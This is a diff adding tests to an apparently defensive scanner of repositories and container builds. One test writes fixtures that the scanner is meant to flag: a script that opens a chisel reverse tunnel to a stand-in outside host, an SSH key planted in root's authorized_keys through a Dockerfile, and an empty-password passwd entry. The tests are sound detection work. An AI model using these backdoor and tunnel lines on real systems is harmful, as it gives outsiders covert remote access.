@@ -179,6 +179,21 @@ def test_fingerprints_hold_whatever_else_changes(tmp_path: Path) -> None:
     assert {prints[1][one] for one in prints[0]} == {"Dockerfile"}
 
 
+def test_where_no_image_is_yet_none_is_spoken_of(tmp_path: Path) -> None:
+    """Nor of the modes and owners of a checkout, which are nobody's."""
+    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINKUmfk1uoMpBFFH8qDvZlQ0KkB1AvRZqZ9dxUDLgFMd me\n"
+    tool = "#!/bin/sh\nchisel client https://h.example R:2222:localhost:22\n"
+    files = {".git/HEAD": "", "tools/x.sh": tool, "home/.ssh/authorized_keys": key, "etc/passwd": "a::1:1::/:/bin/sh\n"}
+    root = written(tmp_path, files)
+    (root / "home/.ssh/authorized_keys").chmod(0o666)
+    report = check([root])
+    assert {f.rule_id for f in report.findings} == {"tunnel/launch", "ssh/authorized-key", "ssh/empty-password-account"}
+    assert all("image" not in f.message and "this repository" in f.message for f in report.findings), report.findings
+    written(root, {"Dockerfile": "FROM a\nCOPY door.txt /root/.ssh/authorized_keys\n", "door.txt": key})
+    [finding] = [f for f in check([root]).findings if f.source is not None and f.source.file == "door.txt"]
+    assert finding.message == "ed25519 key (me) opens root's account; no ssh daemon lies in what the build copies."
+
+
 # ---- which files
 
 
@@ -318,6 +333,20 @@ def test_one_broken_launch_is_told_and_stops_nothing(tmp_path: Path) -> None:
     assert {f.source.file for f in report.findings if f.source} == {"b/compose.yaml"}
     assert {n.path for n in report.notifications if n.incomplete} >= {b"a/compose.yaml", b"c/pod.yaml"}
     assert b"d.yaml" not in {n.path for n in report.notifications}
+
+
+def test_a_chart_is_told_once_and_hides_no_manifest(tmp_path: Path) -> None:
+    pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n"
+    templated = pod.replace("name: a}\n", 'name: {{ include "x" . }}}\n', 1)
+    files = {
+        "c/Chart.yaml": "apiVersion: v2\nname: c\n",
+        "c/templates/one.yaml": templated,
+        "c/templates/two.yaml": pod,
+    }
+    report = check([written(tmp_path, {".git/HEAD": "", **files, "c/templates/three.yaml": templated})])
+    assert [(n.path, n.level) for n in report.notifications] == [(b"c/Chart.yaml", Level.NOTE)]
+    assert {f.source.file for f in report.findings if f.source} == {"c/templates/two.yaml"}
+    assert not check([written(tmp_path / "d", {".git/HEAD": "", "templates/one.yaml": templated})]).complete
 
 
 # ---- this repository
